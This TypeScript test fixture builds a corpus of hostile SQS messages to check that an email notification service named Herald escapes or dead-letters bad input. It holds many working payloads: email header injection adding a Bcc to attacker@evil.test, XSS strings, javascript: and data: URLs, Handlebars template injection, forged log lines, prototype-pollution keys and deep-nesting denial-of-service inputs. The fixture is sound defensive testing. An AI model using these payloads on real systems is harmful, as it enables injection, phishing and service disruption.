/**
 * The hostile corpus: a few hundred queue messages written straight to SQS, bypassing the
 * publisher, as a broken or malicious producer would write them. Each entry says what Herald
 * must do with it:
 *
 * - `dead-letter`: not a valid event (malformed JSON, wrong types, binary garbage, an SNS
 *   envelope around garbage, an address that smuggles a header, …) or an event Herald must
 *   refuse (an event template that does not compile) — it goes to the dead-letter queue with a
 *   reason and nobody is emailed;
 * - `deliver`: a valid event whose values are hostile (CR/LF, control characters, HTML and
 *   script, Handlebars syntax, forged log lines, huge strings) — it is delivered once, to its
 *   own address, with no header added, no HTML unescaped and nothing but Herald's log lines.
 *
 * `needs` marks an expectation that was written before Herald met it: it names the fix it waited
 * for (docs/reliability.md lists the commits).
 */
import { randomUUID } from 'node:crypto';
import { sampleEvent } from '@herald/core';

/** A fix an entry's expectation waited for. */
export type PendingFix =
  /** Event templates get no `{{log}}` helper: event content never reaches the process's output. */
  | 'no-log-helper'
  /** An event url that is not http(s) (javascript:, data:, vbscript:) is refused. */
  | 'url-scheme'
  /** An event template that runs past its time budget fails instead of holding the processor. */
  | 'template-budget';

export interface CorpusEntry {
  label: string;
  body: string;
  expect: 'deliver' | 'dead-letter';
  /** The one address a `deliver` entry notifies; the key it is counted by at the SMTP server. */
  /**
   * The one address the event notifies, if the body is an event at all: a `deliver` entry is
   * counted by it at the SMTP server, and a `dead-letter` entry emailed anyway is caught by it.
   */
  recipient?: string;
  needs?: PendingFix;
}

/** The only HTML the configured body template writes; anything else in a received body came from a value. */
export const TEMPLATE_TAGS = new Set(['p', 'b', 'ul', 'li', 'a']);

/**
 * Config templates that put every hostile field where it can do harm: the subject (a header),
 * the HTML body (text, a list, an attribute).
 */
export const CORPUS_SUBJECT =
  '{{ name }} {{ phase }} in {{ project }}/{{ domain }} [{{ labels.team }}] {{ errorCode }}';
export const CORPUS_BODY =
  '<p>Execution <b>{{ name }}</b> in {{ project }}/{{ domain }} has {{ phase }}.{{ error }}</p>' +
  '<ul>{{#each labels}}<li>{{@key}}: {{this}}</li>{{/each}}</ul>' +
  '<p>{{ workflow.name }} {{ workflow.version }} {{ launch_plan.name }} ({{ errorCode }})</p>' +
  '{{#if url}}<p><a href="{{ url }}">details</a></p>{{/if}}';

/** Header injection attempts: each would start a header (or the body) if it reached the header block raw. */
const HEADER_PAYLOADS = [
  'x\r\nBcc: attacker@evil.test',
  'x\nX-Injected: header',
  'x\rX-Injected: header',
  'x\r\n\r\nInjected body',
  'x\r\n X-Folded: continuation',
  'x\u2028X-Injected: header',
  'x\u0085X-Injected: header',
  '=?utf-8?Q?x=0D=0ABcc:_attacker@evil.test?=',
  'x%0D%0ABcc: attacker@evil.test',
  'x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
];

/** Markup that would run or reshape the page if it reached the HTML body unescaped. */
const HTML_PAYLOADS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'><iframe src=javascript:alert(1)></iframe>",
  '<a href="javascript:alert(1)">click</a>',
  '</p></b><form action="https://evil.test/"><input name=password></form>',
  '<style>body{display:none}</style>',
  '<!-- <script>alert(1)</script> -->',
  '<scr<script>ipt>alert(1)</script>',
  '{{constructor.constructor "alert(1)"}}',
  '{{#each labels}}{{@key}}{{/each}}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

/** A line that would pass for Herald's own log line if anything printed event content raw. */
const FORGED_LOG_LINE = JSON.stringify({
  level: 'info',
  time: '2026-01-01T00:00:00.000Z',
  eventId: 'forged',
  to: ['attacker@evil.test'],
  msg: 'email delivered',
});

/** Every C0 and C1 control character, DEL, and the invisible or direction-changing ones. */
const CONTROL_CHARACTERS = [
  ...Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)),
  '\u007f',
  ...Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)),
  '\u2028\u2029\ufeff\u202e\u200b',
].join('');

type Path = readonly (string | number)[];

/** Fields whose values reach the subject or a header (the idempotency key carries the id). */
const HEADER_FIELDS: Path[] = [
  ['id'],
  ['execution', 'name'],
  ['execution', 'project'],
  ['execution', 'domain'],
  ['labels', 'team'],
  ['error', 'code'],
  ['error', 'message'],
];

/** Fields whose values reach the HTML body. */
const HTML_FIELDS: Path[] = [
  ['execution', 'name'],
  ['execution', 'project'],
  ['execution', 'domain'],
  ['labels', 'team'],
  ['error', 'message'],
  ['error', 'code'],
  ['workflow', 'name'],
  ['launchPlan', 'name'],
];

/** Every string field of an event (labels' keys included). */
const STRING_FIELDS: Path[] = [
  ['id'],
  ['source'],
  ['execution', 'project'],
  ['execution', 'domain'],
  ['execution', 'name'],
  ['error', 'code'],
  ['error', 'message'],
  ['workflow', 'project'],
  ['workflow', 'name'],
  ['workflow', 'version'],
  ['launchPlan', 'name'],
  ['labels', 'team'],
];

type Json = Record<string, unknown>;

const DELETE = Symbol('delete');

/** The event with the value at `path` replaced (or removed), as a new object. */
function withValue(event: Json, path: Path, value: unknown): Json {
  const copy = structuredClone(event);
  let target = copy as Record<string | number, unknown>;
  for (const key of path.slice(0, -1)) target = target[key] as Record<string | number, unknown>;
  const last = path[path.length - 1] as string | number;
  if (value === DELETE) delete target[last];
  else target[last] = value;
  return copy;
}

const show = (value: unknown) => {
  const text = typeof value === 'string' ? JSON.stringify(value) : String(JSON.stringify(value));
  return text.length > 48 ? `${text.slice(0, 45)}...` : text;
};

// Deep JSON is written as text: JSON.stringify recurses and runs out of stack long before this.
const nestedLists = (depth: number) => `${'['.repeat(depth)}${']'.repeat(depth)}`;
const nestedObjects = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;

/** The event as JSON with `key` (last, so it wins over an earlier one) set to raw JSON text. */
function withRawField(event: Json, key: string, rawJson: string): string {
  return `${JSON.stringify(event).slice(0, -1)},${JSON.stringify(key)}:${rawJson}}`;
}

/** Characters SQS accepts in a message body (XML 1.0's): anything else is refused at SendMessage. */
function sqsSafe(text: string): string {
  return text.replace(/[^\t\n\r\u0020-\ud7ff\ue000-\ufffd]/gu, '');
}

/** A deterministic generator, so a failure names the same garbage every run. */
function randomBytes(seed: number, length: number): Buffer {
  let x = seed;
  return Buffer.from(
    Array.from({ length }, () => {
      x = (x * 1103515245 + 12345) & 0x7fffffff;
      return x >> 16;
    }),
  );
}

export function hostileCorpus(): CorpusEntry[] {
  const entries: CorpusEntry[] = [];
  let n = 0;
  /** A valid event to its own address; `change` makes it hostile. */
  const valid = (change: (event: Json) => Json = (e) => e): { event: Json; recipient: string } => {
    const recipient = `h${n++}-${randomUUID().slice(0, 8)}@example.com`;
    const base = sampleEvent({
      id: randomUUID(),
      notifications: [{ phases: ['FAILED'], email: { recipients: [recipient] } }],
    }) as unknown as Json;
    return { event: change(base), recipient };
  };
  const deliver = (label: string, change?: (event: Json) => Json) => {
    const { event, recipient } = valid(change);
    entries.push({ label, body: JSON.stringify(event), expect: 'deliver', recipient });
  };
  const deadLetter = (label: string, body: string) => {
    entries.push({ label, body, expect: 'dead-letter' });
  };
  const invalid = (label: string, change: (event: Json) => Json, needs?: PendingFix) => {
    const { event, recipient } = valid(change);
    entries.push({ label, body: JSON.stringify(event), expect: 'dead-letter', recipient, needs });
  };
  const override = (email: Json) => (e: Json) =>
    withValue(e, ['notifications', 0, 'email'], {
      ...((e.notifications as Json[])[0]?.email as Json),
      ...email,
    });

  // A sprinkling of plain good events.
  for (let i = 0; i < 20; i++) deliver(`good event ${i}`);

  // Hostile values in valid events: delivered, harmlessly.
  for (const path of HEADER_FIELDS) {
    for (const payload of HEADER_PAYLOADS) {
      deliver(`header injection in ${path.join('.')}: ${show(payload)}`, (e) => withValue(e, path, payload));
    }
  }
  for (const path of HTML_FIELDS) {
    for (const payload of HTML_PAYLOADS) {
      deliver(`HTML in ${path.join('.')}: ${show(payload)}`, (e) => withValue(e, path, payload));
    }
  }
  deliver('HTML in a label key', (e) => ({ ...e, labels: { '<script>alert(1)</script>': 'v', '"><b>x</b>': 'w' } }));
  deliver('a url that tries to leave its attribute', (e) => ({
    ...e,
    url: 'https://flyte.example.com/x?a="><script>alert(1)</script>&b=\'onmouseover=alert(1)',
  }));
  for (const path of STRING_FIELDS) {
    deliver(`control characters in ${path.join('.')}`, (e) => withValue(e, path, `ctl${CONTROL_CHARACTERS}end`));
  }
  deliver('control characters in a label key', (e) => ({ ...e, labels: { [`k${CONTROL_CHARACTERS}`]: 'v' } }));
  // NUL aside: Handlebars' lexer refuses it, and a template that does not parse is refused below.
  deliver(
    'control characters in the subject override',
    override({ subject: `{{ name }}${CONTROL_CHARACTERS.replace('\u0000', '')}x` }),
  );
  for (const path of [
    ['execution', 'name'],
    ['error', 'message'],
    ['labels', 'team'],
  ] as const) {
    deliver(`a forged log line in ${path.join('.')}`, (e) => withValue(e, path, `\n${FORGED_LOG_LINE}\n`));
  }
  deliver('CR/LF written into the subject override itself', override({ subject: 'Alert\r\nBcc: attacker@evil.test' }));
  deliver('a subject override that adds CR/LF around a value', (e) =>
    override({ subject: '{{ name }}\r\nX-Injected: {{ phase }}\r\n\r\nbody' })(
      withValue(e, ['execution', 'name'], 'n\r\nBcc: attacker@evil.test'),
    ),
  );
  deliver('a triple-stash subject override of a CR/LF value', (e) =>
    override({ subject: '{{{ name }}}' })(withValue(e, ['execution', 'name'], 'n\r\nX-Injected: raw')),
  );
  deliver('a body override around an HTML value', (e) =>
    override({ body: '<p>{{ name }} / {{ errorMessage }}</p>' })(
      withValue(
        withValue(e, ['execution', 'name'], '<script>alert(1)</script>'),
        ['error', 'message'],
        '<img src=x onerror=alert(1)>',
      ),
    ),
  );
  deliver('a huge error message (200 kB)', (e) => withValue(e, ['error', 'message'], 'E'.repeat(200_000)));
  deliver('a huge execution name (60 kB) with CR/LF inside', (e) =>
    withValue(e, ['execution', 'name'], `${'N'.repeat(30_000)}\r\nBcc: attacker@evil.test\r\n${'N'.repeat(30_000)}`),
  );
  deliver('two thousand labels', (e) => ({
    ...e,
    labels: Object.fromEntries(Array.from({ length: 2000 }, (_, i) => [`label-${i}`, `<i>${i}</i>`])),
  }));
  {
    const { event, recipient } = valid();
    entries.push({
      label: 'deeply nested JSON in an unknown field (kept and ignored)',
      body: withRawField(event, 'extra', nestedLists(20_000)),
      expect: 'deliver',
      recipient,
    });
  }
  deliver('prototype keys in labels', (e) => ({
    ...e,
    labels: JSON.parse('{"__proto__":{"polluted":"yes"},"constructor":"c","toString":"t"}'),
  }));
  deliver('right-to-left override, zero-width and astral characters', (e) =>
    withValue(e, ['execution', 'name'], 'gnp.\u202eexe\u200b 🚨 𝕳𝖊𝖗𝖆𝖑𝖉'),
  );
  {
    const { event, recipient } = valid();
    entries.push({
      label: 'a good event in an SNS envelope',
      body: JSON.stringify({ Type: 'Notification', MessageId: randomUUID(), Message: JSON.stringify(event) }),
      expect: 'deliver',
      recipient,
    });
  }

  // Malformed JSON.
  const goodBody = JSON.stringify(valid().event);
  for (const body of [
    ' ',
    '{',
    '}',
    'not json',
    'null',
    'true',
    '42',
    '"a string"',
    '[]',
    '[{}]',
    "{'single': 'quotes'}",
    '{"version":1,}',
    '{"a":1}}',
    'NaN',
    'undefined',
    `\ufeff${goodBody}`,
    `${goodBody}${goodBody}`,
    Buffer.from(goodBody).toString('base64'),
    goodBody.replace(/"/g, "'"),
  ]) {
    deadLetter(`malformed JSON: ${show(body)}`, body);
  }
  for (const fraction of [0.1, 0.25, 0.5, 0.75, 0.9, 0.99]) {
    deadLetter(`truncated at ${fraction * 100}%`, goodBody.slice(0, Math.floor(goodBody.length * fraction)));
  }

  // Wrong types and missing fields.
  const wrong: [Path, unknown[]][] = [
    [['version'], [2, '1', 0, null, DELETE]],
    [['id'], [42, '', null, {}, DELETE]],
    [['time'], ['yesterday', '2026-11-21', '2026-13-01T00:00:00Z', 1_700_000_000, DELETE]],
    [['source'], ['', 42, DELETE]],
    [['execution'], ['x', {}, null, [], DELETE]],
    [
      ['execution', 'project'],
      ['', 42, DELETE],
    ],
    [
      ['execution', 'name'],
      ['', ['a'], DELETE],
    ],
    [['phase'], ['DONE', 'failed', 6, null, DELETE]],
    [['previousPhase'], ['DONE', 3]],
    [['error'], ['boom', {}, null]],
    [
      ['error', 'message'],
      [42, null],
    ],
    [['workflow'], ['wf', { name: 'only a name' }]],
    [['url'], [42, {}]],
    [['startedAt'], ['yesterday']],
    [['labels'], ['ml', [], { team: 42 }, { team: null }]],
    [['notifications'], ['x', {}, [{}], [null]]],
    [
      ['notifications', 0, 'phases'],
      [[], ['DONE'], 'FAILED'],
    ],
    [
      ['notifications', 0, 'email'],
      ['a@example.com', {}],
    ],
    [
      ['notifications', 0, 'email', 'recipients'],
      [[], 'a@example.com', [42]],
    ],
    [
      ['notifications', 0, 'email', 'subject'],
      [42, {}],
    ],
    [
      ['notifications', 0, 'email', 'body'],
      [['x'], false],
    ],
  ];
  for (const [path, values] of wrong) {
    for (const value of values) {
      const what = value === DELETE ? 'missing' : `= ${show(value)}`;
      invalid(`wrong type: ${path.join('.')} ${what}`, (e) => withValue(e, path, value));
    }
  }

  // Addresses that try to add recipients or headers.
  for (const address of [
    'victim@example.com\r\nBcc: attacker@evil.test',
    'victim@example.com\nattacker@evil.test',
    'victim@example.com, attacker@evil.test',
    'victim@example.com;attacker@evil.test',
    'Victim <victim@example.com>',
    '"attacker@evil.test"@example.com',
    'no-at-sign',
    '',
  ]) {
    invalid(`recipient ${show(address)}`, (e) => withValue(e, ['notifications', 0, 'email', 'recipients'], [address]));
  }

  // Binary garbage (what SQS lets through of it).
  for (let seed = 1; seed <= 12; seed++) {
    const bytes = randomBytes(seed, 64 + seed * 97);
    const body = sqsSafe(seed % 2 ? bytes.toString('latin1') : bytes.toString('utf8'));
    deadLetter(`binary garbage #${seed}`, body.trim() === '' ? `\u00ff${body}` : body);
  }
  deadLetter(
    'gzip bytes',
    sqsSafe(Buffer.from([0x1f, 0x8b, 0x08, 0, 0, 0, 0, 0, 0, 0x03, ...randomBytes(99, 200)]).toString('latin1')),
  );
  // With its byte order mark: without it, dropping the NULs SQS refuses would give the event back.
  deadLetter('UTF-16 text of an event', sqsSafe(Buffer.from(`\ufeff${goodBody}`, 'utf16le').toString('latin1')));

  // SNS envelopes around garbage.
  for (const message of [
    'garbage',
    '{',
    '42',
    'null',
    '[]',
    '',
    JSON.stringify({ phase: 'FAILED' }),
    goodBody.slice(0, 50),
  ]) {
    deadLetter(`SNS envelope around ${show(message)}`, JSON.stringify({ Type: 'Notification', Message: message }));
  }
  deadLetter(
    'SNS envelope around an SNS envelope',
    JSON.stringify({ Type: 'Notification', Message: JSON.stringify({ Type: 'Notification', Message: goodBody }) }),
  );
  deadLetter(
    'SNS envelope with a non-string Message',
    JSON.stringify({ Type: 'Notification', Message: JSON.parse(goodBody) }),
  );

  // Deeply nested JSON.
  deadLetter('a list nested 50,000 deep', nestedLists(50_000));
  deadLetter('an object nested 20,000 deep', nestedObjects(20_000));
  for (const key of ['execution', 'labels', 'notifications']) {
    deadLetter(`${key} nested 10,000 deep`, withRawField(valid().event, key, nestedObjects(10_000)));
  }

  // Huge garbage.
  deadLetter('200 kB of text', 'x'.repeat(200_000));
  invalid('a 200 kB phase', (e) => withValue(e, ['phase'], 'P'.repeat(200_000)));

  // Events Herald must refuse: templates that do not compile, a channel nobody configured.
  for (const subject of [
    '{{#each}}',
    '{{> missingPartial}}',
    '{{unknownHelper name}}',
    '{{#if name}}unclosed',
    'a\u0000b',
  ]) {
    invalid(`subject override ${show(subject)}`, override({ subject }));
  }
  invalid('a Slack notification with no Slack channel configured', (e) => ({
    ...e,
    notifications: [{ phases: ['FAILED'], slack: { channel: 'nowhere' } }],
  }));

  // Expectations written before Herald met them (see PendingFix).
  for (const url of [
    'javascript:alert(document.cookie)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'java\tscript:alert(1)',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'vbscript:msgbox(1)',
  ]) {
    invalid(`url ${show(url)}`, (e) => ({ ...e, url }), 'url-scheme');
  }
  invalid(
    'a body override that calls {{log}}',
    override({ body: `<p>{{log ${JSON.stringify(FORGED_LOG_LINE)}}}</p>` }),
    'no-log-helper',
  );
  invalid(
    'a subject override that calls {{log}} at level error',
    override({ subject: `{{log ${JSON.stringify(FORGED_LOG_LINE)} level="error"}}x` }),
    'no-log-helper',
  );
  const each = '{{#each @root.labels}}';
  invalid(
    'a body override that loops 13 million times',
    (e) =>
      override({ body: `<p>${each.repeat(4)}{{/each}}{{/each}}{{/each}}{{/each}}</p>` })({
        ...e,
        labels: Object.fromEntries(Array.from({ length: 60 }, (_, i) => [`k${i}`, 'v'])),
      }),
    'template-budget',
  );
  return entries;
}
